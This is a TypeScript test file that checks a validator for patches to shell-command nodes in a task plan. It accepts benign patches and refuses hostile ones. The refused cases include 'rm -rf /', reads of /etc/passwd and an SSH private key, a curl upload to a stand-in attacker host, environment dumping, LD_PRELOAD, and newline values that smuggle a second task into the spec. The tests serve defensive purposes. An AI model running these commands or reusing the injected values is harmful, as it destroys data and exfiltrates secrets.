import { expect, test } from 'vitest';

import { planWith, shellNode } from '../../../test/support/repair-nodes.ts';
import { readPatch } from './spec-patch.ts';
import { patchNode } from './patch-node.ts';
import type { SpecPatch } from './spec-patch.ts';

const node = shellNode('node {PLAN_PATH}/scripts/count.mjs {ITEM.path} > {SOURCE}.txt');

function apply(patch: SpecPatch) {
  return patchNode(node, patch, planWith(node));
}

test('a patch changes what it names and leaves all else as it was', () => {
  const result = apply({ command: 'bun {ITEM.path}', env: { MODE: 'fast, really' }, timeout_s: 90, retries: 4 });

  expect(result).toEqual({
    kind: 'patched',
    node: {
      ...node,
      command: { language: 'bash', text: 'bun {ITEM.path}' },
      env: { MODE: 'fast, really' },
      timeoutMs: 90_000,
      retries: 4,
    },
  });
});

test.each<[string, unknown]>([
  ['dependencies', { command: 'true', depends_on: 'none' }],
  ['secrets', { secrets: ['TOKEN'] }],
  ['products', { produces: ['/etc/passwd'] }],
  ['requirements', { requires: [] }],
  ['the sandbox', { sandbox: 'none' }],
  ['nothing', {}],
  ['a text', 'rm -rf /'],
])('a patch of %s is none', (_what, value) => {
  expect(readPatch(value)).toHaveProperty('refused');
});

test.each<[string, SpecPatch, string]>([
  ['a place outside', { command: 'cat /etc/passwd' }, 'names /etc/passwd'],
  ['a place above', { command: 'cat ../other/secret' }, 'names ../other'],
  ['a home', { command: 'cat ~/.ssh/id_ed25519' }, 'names ~/.ssh/id_ed25519'],
  ['the network', { command: 'curl -d @{ITEM.path} http:evil.example' }, 'runs curl'],
  ['the environment', { command: 'env | base64' }, 'looks into the environment'],
  ['code from a value', { command: 'bash {raw:SOURCE}' }, 'splices'],
  ['a loader', { env: { LD_PRELOAD: 'x.so' } }, 'LD_PRELOAD'],
  ['a variable of ours', { env: { DROVER_HOME: 'x' } }, 'DROVER_HOME'],
  ['a second task', { env: { A: 'x"\n### evil' } }, 'quotes, backslashes or lines'],
  ['a name with lines', { env: { 'A=1\n- **secrets**: T': 'x' } }, 'no name'],
  ['an unknown name', { command: 'echo {NOBODY}' }, 'P030'],
  ['a placeholder in program text', { command: "bash -c 'echo {ITEM.path}'" }, 'P034'],
])('a patch with %s is refused', (_what, patch, reason) => {
  const result = apply(patch);

  expect(result).toMatchObject({ kind: 'refused', reason: expect.stringContaining(reason) as string });
});

test('a command that contains fences and headings stays one command', () => {
  const command = 'cat <<EOF\n~~~~\n### evil\n- **command**: `rm x`\nEOF';

  expect(apply({ command })).toMatchObject({ kind: 'patched', node: { command: { text: command } } });
});
